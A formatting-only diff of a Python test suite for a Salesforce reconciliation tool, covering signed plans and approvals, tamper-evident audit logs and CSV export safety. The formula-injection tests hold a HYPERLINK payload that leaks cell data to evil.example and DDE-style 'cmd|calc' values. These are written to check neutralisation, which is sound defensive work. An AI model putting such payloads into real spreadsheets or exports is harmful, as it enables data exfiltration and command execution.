@@ -28,8 +28,20 @@ from reconcile.errors import ApprovalError, PlanError, ReconcileError
 from reconcile.plan import load_plan, save_plan
 from reconcile.planfile import copy_plan
 from conftest import client_for, sandbox_env, seed
-from test_apply import (CM_B, CM_C, LEAD_E, LEAD_F, LEAD_G, admin_sf, audit_rows, do_apply, history, outcome, prepared,
-                        read_csv)
+from test_apply import (
+    CM_B,
+    CM_C,
+    LEAD_E,
+    LEAD_F,
+    LEAD_G,
+    admin_sf,
+    audit_rows,
+    do_apply,
+    history,
+    outcome,
+    prepared,
+    read_csv,
+)
 from test_apply import org, plans  # noqa: F401  (fixtures)
 
 
@@ -58,8 +70,20 @@ def add(plan: dict, c: dict) -> None:
 
 
 def new_change(obj, rid, field, before, after) -> dict:
-    return {"object": obj, "record_id": rid, "field": field, "before": before, "after": after, "rule": "hand_edit",
-            "status": "ready", "reason": None, "reasons": [], "evidence": [], "campaign_id": None, "gbu": None}
+    return {
+        "object": obj,
+        "record_id": rid,
+        "field": field,
+        "before": before,
+        "after": after,
+        "rule": "hand_edit",
+        "status": "ready",
+        "reason": None,
+        "reasons": [],
+        "evidence": [],
+        "campaign_id": None,
+        "gbu": None,
+    }
 
 
 def cli(*args, env: dict | None = None):
@@ -67,6 +91,7 @@ def cli(*args, env: dict | None = None):
 
 
 # ------------------------------------------------------------------------------------------ 1. invariants, live
+
 
 def test_has_replied_is_never_cleared_even_by_a_plan_that_says_so(org, plans, tmp_path):
     plan_path = plans.copy(tmp_path, "handmade")
@@ -101,8 +126,9 @@ def test_enrichment_overwrite_marked_ready_is_refused_without_a_signed_release(o
     plan_path = plans.copy(tmp_path, "enrich")
     pol = plans.policy("enrich")
     seed(org, plans.snapshot("enrich"))
-    edit(plan_path, lambda p: change(p, LEAD_F, "company_description__c").update(
-        status="ready", reason=None, reasons=[]))
+    edit(
+        plan_path, lambda p: change(p, LEAD_F, "company_description__c").update(status="ready", reason=None, reasons=[])
+    )
     built(plan_path)
     approve(plan_path, by="Ana Admin", policy=pol)
     sent: list = []
@@ -113,15 +139,23 @@ def test_enrichment_overwrite_marked_ready_is_refused_without_a_signed_release(o
     assert (LEAD_F, "company_description__c") not in {(r["id"], k) for batch in sent for r in batch for k in r}
     assert (LEAD_F, "company_description__c") not in history(org)
 
-    approve(plan_path, by="Ana Admin", policy=pol, release_records=[LEAD_F], release_reason="MARCOM ticket 42",
-            replace="release Lead F's description")
+    approve(
+        plan_path,
+        by="Ana Admin",
+        policy=pol,
+        release_records=[LEAD_F],
+        release_reason="MARCOM ticket 42",
+        replace="release Lead F's description",
+    )
     res = do_apply(org, plan_path, policy=pol)
     assert outcome(res, LEAD_F, "company_description__c")["result"] == "applied"
     assert org.org.get("Lead", LEAD_F)["company_description__c"] == "Globex does it all"
 
 
 def test_a_picklist_value_the_org_does_not_list_as_active_is_refused(org, plans, tmp_path):
-    pol = policy_with(tmp_path / "pol", replace={'"Sender Originated Bounce"]': '"Sender Originated Bounce", "Maybe Later"]'})
+    pol = policy_with(
+        tmp_path / "pol", replace={'"Sender Originated Bounce"]': '"Sender Originated Bounce", "Maybe Later"]'}
+    )
     plan_path = plans.copy(tmp_path, "handmade")
     seed(org, plans.snapshot("handmade"))
     edit(plan_path, lambda p: change(p, CM_C, "ReplyClassification__c").update(after="Maybe Later"))
@@ -134,6 +168,7 @@ def test_a_picklist_value_the_org_does_not_list_as_active_is_refused(org, plans,
 
 
 # ------------------------------------------------------------------------------------------ 2. plans come from `plan`
+
 
 def _attack(p):
     """The edits that went through at 52bb8be: an overwrite without release, a reply cleared, gates deleted."""
@@ -164,8 +199,10 @@ def test_a_row_added_to_the_plans_table_by_hand_does_not_make_a_plan_genuine(org
     plan_path = plans.copy(tmp_path, "handmade")
     plan = edit(plan_path, _attack)
     con = duckdb.connect(str(plan_path.parent / "reconcile.duckdb"))
-    con.execute("insert into plans values (?, ?, 'plan', '2026-11-27T06:00:00Z', ?)",
-                [plan["plan_id"], provenance.changes_hash(plan), "hmac-sha256:" + "0" * 64])
+    con.execute(
+        "insert into plans values (?, ?, 'plan', '2026-11-27T06:00:00Z', ?)",
+        [plan["plan_id"], provenance.changes_hash(plan), "hmac-sha256:" + "0" * 64],
+    )
     con.close()
     with pytest.raises(PlanError, match="no signed record"):
         approve(plan_path, by="Ana Admin")
@@ -173,12 +210,14 @@ def test_a_row_added_to_the_plans_table_by_hand_does_not_make_a_plan_genuine(org
 
 def test_the_plans_record_survives_a_replan_into_the_same_database(org, plans, tmp_path):
     plan_path, _ = prepared(org, plans, tmp_path, "handmade")
-    build_plan(plans.snapshot("enrich"), out=plan_path.parent / "other.json", policy=plans.policy("enrich"),
-               exports=False)
+    build_plan(
+        plans.snapshot("enrich"), out=plan_path.parent / "other.json", policy=plans.policy("enrich"), exports=False
+    )
     assert do_apply(org, plan_path).counts == {"applied": 5}
 
 
 # ------------------------------------------------------------------------------------------ 3. signed approvals
+
 
 def test_an_approval_edited_to_another_approver_with_its_hash_recomputed_is_refused(org, plans, tmp_path):
     plan_path, _ = prepared(org, plans, tmp_path, "handmade")
@@ -196,14 +235,17 @@ def test_an_approval_edited_to_another_approver_with_its_hash_recomputed_is_refu
 
 def test_an_approval_signed_with_another_key_is_refused(org, plans, tmp_path, monkeypatch):
     from reconcile import signing
+
     plan_path, _ = prepared(org, plans, tmp_path, "handmade", fields=["Has_Replied__c"])
     p = approval_path(plan_path)
     doc = json.loads(p.read_text())
     entry = doc["approvals"][-1]
     entry["scope"]["fields"] = "all"
     monkeypatch.setenv("RECONCILE_APPROVAL_KEY", "someone else's key, on their own laptop")
-    entry["signature"] = signing.sign("approval", {"plan_id": doc["plan_id"], "previous": None, "approval": {
-        k: v for k, v in entry.items() if k != "signature"}})
+    entry["signature"] = signing.sign(
+        "approval",
+        {"plan_id": doc["plan_id"], "previous": None, "approval": {k: v for k, v in entry.items() if k != "signature"}},
+    )
     monkeypatch.delenv("RECONCILE_APPROVAL_KEY")
     p.write_text(json.dumps(doc))
     with pytest.raises(ApprovalError, match="edited after it was written"):
@@ -241,6 +283,7 @@ def test_approving_an_approved_plan_needs_a_reason_and_keeps_both(org, plans, tm
 
 def test_the_key_is_created_once_outside_the_plan_folder_readable_only_by_its_owner(signing_key_dir):
     from reconcile import signing
+
     key = signing.signing_key()
     path = signing.key_path()
     assert path.parent == signing_key_dir and path.exists()
@@ -256,10 +299,11 @@ def test_the_key_is_created_once_outside_the_plan_folder_readable_only_by_its_ow
 
 # ------------------------------------------------------------------------------------------ 4. used once
 
+
 def test_a_correction_made_after_apply_is_not_overwritten_by_reapplying(org, plans, tmp_path):
     plan_path, _ = prepared(org, plans, tmp_path, "handmade")
     assert do_apply(org, plan_path).counts == {"applied": 5}
-    admin_sf(org).CampaignMember.update(CM_C, {"ReplyClassification__c": "Wrong Person"})   # a person corrects it
+    admin_sf(org).CampaignMember.update(CM_C, {"ReplyClassification__c": "Wrong Person"})  # a person corrects it
     mine = len(history(org))
     res = do_apply(org, plan_path)
     o = outcome(res, CM_C, "ReplyClassification__c")
@@ -286,13 +330,17 @@ def test_after_an_undo_the_original_approval_writes_nothing_again(org, plans, tm
 
 # ------------------------------------------------------------------------------------------ 5. tamper-evident audit
 
-@pytest.mark.parametrize("tamper,named", [
-    ("update audit set after = 'false' where seq = 3", "audit row seq 3 was changed"),
-    ("delete from audit where seq = 3", "audit row seq 4 does not follow"),
-    ("delete from audit where seq = (select max(seq) from audit)", "signed head names row seq"),
-    ("update audit set approver = 'CFO (forged)'", "audit row seq 1 was changed"),
-    ("drop table audit_head", "signed head is missing"),
-])
+
+@pytest.mark.parametrize(
+    "tamper,named",
+    [
+        ("update audit set after = 'false' where seq = 3", "audit row seq 3 was changed"),
+        ("delete from audit where seq = 3", "audit row seq 4 does not follow"),
+        ("delete from audit where seq = (select max(seq) from audit)", "signed head names row seq"),
+        ("update audit set approver = 'CFO (forged)'", "audit row seq 1 was changed"),
+        ("drop table audit_head", "signed head is missing"),
+    ],
+)
 def test_audit_verify_names_the_first_broken_row_and_apply_refuses_it(org, plans, tmp_path, tamper, named):
     plan_path, _ = prepared(org, plans, tmp_path, "handmade")
     do_apply(org, plan_path)
@@ -320,10 +368,14 @@ def test_the_chain_survives_a_replan_and_the_csv_export(org, plans, tmp_path):
     assert cli("audit", "--db", db, "--verify").exit_code == 0
     out = cli("audit", "--db", db, "--csv").stdout
     rows = list(csv.DictReader(io.StringIO(out)))
-    assert len(rows) == 15 and audit.verify_rows(rows, from_csv=True) is None   # the same plan again: 5 × already_applied
+    assert (
+        len(rows) == 15 and audit.verify_rows(rows, from_csv=True) is None
+    )  # the same plan again: 5 × already_applied
     rows[2]["result"] = "failed"
-    assert audit.verify_rows(rows, from_csv=True) == f"audit row seq {rows[2]['seq']} was changed after it was written " \
-                                      "(its content does not match its hash)"
+    assert (
+        audit.verify_rows(rows, from_csv=True) == f"audit row seq {rows[2]['seq']} was changed after it was written "
+        "(its content does not match its hash)"
+    )
 
 
 # ------------------------------------------------------------------------------------------ 6. formula injection
@@ -333,24 +385,31 @@ EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
 
 def test_every_csv_neutralises_formulas_and_keeps_numbers(org, tmp_path):
     leads = [lead(1), lead(2, Company="-5"), lead(3, Company="+cmd|' /C calc'!A0")]
-    clay = [{"LeadId": lead_id(1), "Email": "lead1@example.com", "Company Description": EVIL},
-            {"LeadId": lead_id(2), "Email": "lead2@example.com", "Company Description": "@SUM(1+1)"}]
-    snap = write_snapshot(tmp_path, {"sfdc/Lead.csv": csv_text(LEAD_HEADER, leads),
-                                     "clay/table.csv": csv_text(CLAY_HEADER, clay)})
-    pol = policy_with(tmp_path / "pol", statuses={"company_description__c": "active"}, replace={
-        'name = "Demo Admin"': 'name = "=cmd|calc"',
-        "max_record_fraction = 0.25": "max_record_fraction = 1.0",
-        "max_snapshot_age_hours = 48": "max_snapshot_age_hours = 1000000"})
+    clay = [
+        {"LeadId": lead_id(1), "Email": "lead1@example.com", "Company Description": EVIL},
+        {"LeadId": lead_id(2), "Email": "lead2@example.com", "Company Description": "@SUM(1+1)"},
+    ]
+    snap = write_snapshot(
+        tmp_path, {"sfdc/Lead.csv": csv_text(LEAD_HEADER, leads), "clay/table.csv": csv_text(CLAY_HEADER, clay)}
+    )
+    pol = policy_with(
+        tmp_path / "pol",
+        statuses={"company_description__c": "active"},
+        replace={
+            'name = "Demo Admin"': 'name = "=cmd|calc"',
+            "max_record_fraction = 0.25": "max_record_fraction = 1.0",
+            "max_snapshot_age_hours = 48": "max_snapshot_age_hours = 1000000",
+        },
+    )
     plan_path = tmp_path / "out" / "plan.json"
     build_plan(snap, out=plan_path, policy=pol)
     changes_csv = read_csv(plan_path.with_suffix(".changes.csv"))
     assert {r["after"] for r in changes_csv if r["field"] == "company_description__c"} == {"'" + EVIL, "'@SUM(1+1)"}
     seed(org, snap)
-    org.org.set_faults(fail_records={lead_id(2): ("FIELD_CUSTOM_VALIDATION_EXCEPTION", "-1+2 <b>bad</b> | [x](y)",
-                                                  [])})
+    org.org.set_faults(fail_records={lead_id(2): ("FIELD_CUSTOM_VALIDATION_EXCEPTION", "-1+2 <b>bad</b> | [x](y)", [])})
     approve(plan_path, by="=cmd|calc", policy=pol)
     res = do_apply(org, plan_path, policy=pol)
-    assert org.org.get("Lead", lead_id(1))["company_description__c"] == EVIL     # the org gets the real value
+    assert org.org.get("Lead", lead_id(1))["company_description__c"] == EVIL  # the org gets the real value
     results = read_csv(res.files["results"])
     assert "'" + EVIL in {r["after"] for r in results}
     exc = read_csv(res.files["exceptions_csv"])
@@ -362,11 +421,19 @@ def test_every_csv_neutralises_formulas_and_keeps_numbers(org, tmp_path):
     assert "'=cmd|calc" in out and ",=cmd" not in out
     # export-members (the file Clay imports): a formula company is neutralised, a number is left alone
     members = tmp_path / "members.csv"
-    snap2 = write_snapshot(tmp_path, {"sfdc/Lead.csv": csv_text(LEAD_HEADER, leads),
-                                      "sfdc/CampaignMember.csv": "Id,CampaignId,LeadId,ContactId,Status,Has_Replied__c,"
-                                      "ReplyClassification__c,SystemModstamp\n"
-                                      + "".join(f"00v00000000000{i}AAA,701000000000001AAA,{lead_id(i)},,Sent,false,,"
-                                                "2026-11-26T09:41:02Z\n" for i in (1, 2, 3))}, name="snap2")
+    snap2 = write_snapshot(
+        tmp_path,
+        {
+            "sfdc/Lead.csv": csv_text(LEAD_HEADER, leads),
+            "sfdc/CampaignMember.csv": "Id,CampaignId,LeadId,ContactId,Status,Has_Replied__c,"
+            "ReplyClassification__c,SystemModstamp\n"
+            + "".join(
+                f"00v00000000000{i}AAA,701000000000001AAA,{lead_id(i)},,Sent,false,,2026-11-26T09:41:02Z\n"
+                for i in (1, 2, 3)
+            ),
+        },
+        name="snap2",
+    )
     r = cli("export-members", snap2, "--campaign", "701000000000001", "--out", members)
     assert r.exit_code == 0, r.stderr
     companies = {row["Company"] for row in read_csv(members)}
@@ -375,8 +442,10 @@ def test_every_csv_neutralises_formulas_and_keeps_numbers(org, tmp_path):
 
 # ------------------------------------------------------------------------------------------ 7. the apply panel
 
+
 def test_the_panel_refuses_a_plan_swapped_on_disk_after_review(org, plans, tmp_path):
     from reconcile.notebook.apply_ui import ApplyPanel
+
     plan_path = plans.copy(tmp_path, "handmade")
     seed(org, plans.snapshot("handmade"))
     panel = ApplyPanel(plan_path, client_factory=lambda: client_for(org))
@@ -397,10 +466,14 @@ def test_the_panel_refuses_a_plan_swapped_on_disk_after_review(org, plans, tmp_p
 def test_the_panel_shows_where_it_writes_and_uses_the_org_policy(org, plans, tmp_path, monkeypatch):
     from reconcile.notebook.apply_ui import ApplyPanel
     from reconcile.salesforce import connect
+
     folder = tmp_path / "policies"
     folder.mkdir()
-    pol = policy_with(folder, statuses={"company_description__c": "active", "Industry": "active"},
-                      replace={"max_snapshot_age_hours = 48": "max_snapshot_age_hours = 1000000"})
+    pol = policy_with(
+        folder,
+        statuses={"company_description__c": "active", "Industry": "active"},
+        replace={"max_snapshot_age_hours = 48": "max_snapshot_age_hours = 1000000"},
+    )
     pol.rename(folder / "emea.toml")
     monkeypatch.setenv("RECONCILE_POLICY_DIR", str(folder))
     plan_path = plans.copy(tmp_path, "enrich")
@@ -423,12 +496,19 @@ def test_the_panel_shows_where_it_writes_and_uses_the_org_policy(org, plans, tmp
 
 # ------------------------------------------------------------------------------------------ 8. exit codes
 
+
 def test_apply_exits_1_with_a_summary_when_every_change_was_refused(org, plans, tmp_path):
     plan_path, _ = prepared(org, plans, tmp_path, "handmade")
     # the plan's ready changes under a policy where every field it writes is pending Legal
-    strict = policy_with(tmp_path / "strict", statuses={"Has_Replied__c": "pending_legal", "ReplyClassification__c":
-                                                        "pending_legal", "external_hard_bounced__c": "pending_legal"},
-                         replace={"max_snapshot_age_hours = 48": "max_snapshot_age_hours = 1000000"})
+    strict = policy_with(
+        tmp_path / "strict",
+        statuses={
+            "Has_Replied__c": "pending_legal",
+            "ReplyClassification__c": "pending_legal",
+            "external_hard_bounced__c": "pending_legal",
+        },
+        replace={"max_snapshot_age_hours = 48": "max_snapshot_age_hours = 1000000"},
+    )
     r = cli("apply", plan_path, "--policy", strict, env=sandbox_env(org))
     assert r.exit_code == 1, r.stdout + r.stderr
     assert "refused 5" in r.stdout and "Not applied: refused 5 (by reason: pending_legal 5)" in r.stdout
@@ -456,7 +536,7 @@ def test_a_dry_run_checks_the_same_things_and_writes_nothing(org, plans, tmp_pat
     edit(plan_path, _attack)
     with pytest.raises(ApprovalError, match="the plan changed since it was approved"):
         do_apply(org, plan_path, dry_run=True)
-    approval_path(plan_path).unlink()   # a dry run without approval still checks where the plan came from
+    approval_path(plan_path).unlink()  # a dry run without approval still checks where the plan came from
     with pytest.raises(PlanError, match="was not built by `reconcile plan`"):
         do_apply(org, plan_path, dry_run=True)
 
@@ -466,15 +546,19 @@ def test_an_audit_written_before_the_chain_is_chained_once_when_carried_over(tmp
     old = tmp_path / "old.duckdb"
     con = duckdb.connect(str(old))
     con.execute("create sequence audit_seq start with 1")
-    con.execute("create table audit (seq bigint default nextval('audit_seq'), run_id varchar, plan_id varchar, "
-                "approver varchar, object varchar, record_id varchar, field varchar, before varchar, after varchar, "
-                "result varchar, error_code varchar, message varchar, \"at\" timestamptz)")
-    con.execute("insert into audit (run_id, plan_id, approver, object, record_id, field, before, after, result, \"at\") "
-                "values ('r1', 'sha256:1', 'Ana', 'Lead', 'x', 'Industry', 'null', '\"Banking\"', 'applied', "
-                "'2026-11-27 06:00:00+00')")
+    con.execute(
+        "create table audit (seq bigint default nextval('audit_seq'), run_id varchar, plan_id varchar, "
+        "approver varchar, object varchar, record_id varchar, field varchar, before varchar, after varchar, "
+        'result varchar, error_code varchar, message varchar, "at" timestamptz)'
+    )
+    con.execute(
+        'insert into audit (run_id, plan_id, approver, object, record_id, field, before, after, result, "at") '
+        "values ('r1', 'sha256:1', 'Ana', 'Lead', 'x', 'Industry', 'null', '\"Banking\"', 'applied', "
+        "'2026-11-27 06:00:00+00')"
+    )
     con.close()
     r = cli("audit", "--db", old, "--verify")
-    assert r.exit_code == 1 and "signed head is missing" in r.stderr     # verify never repairs
-    audit.open_audit(old).close()                                         # first use by a new version
+    assert r.exit_code == 1 and "signed head is missing" in r.stderr  # verify never repairs
+    audit.open_audit(old).close()  # first use by a new version
     r = cli("audit", "--db", old, "--verify")
     assert r.exit_code == 0 and "1 rows" in r.stdout
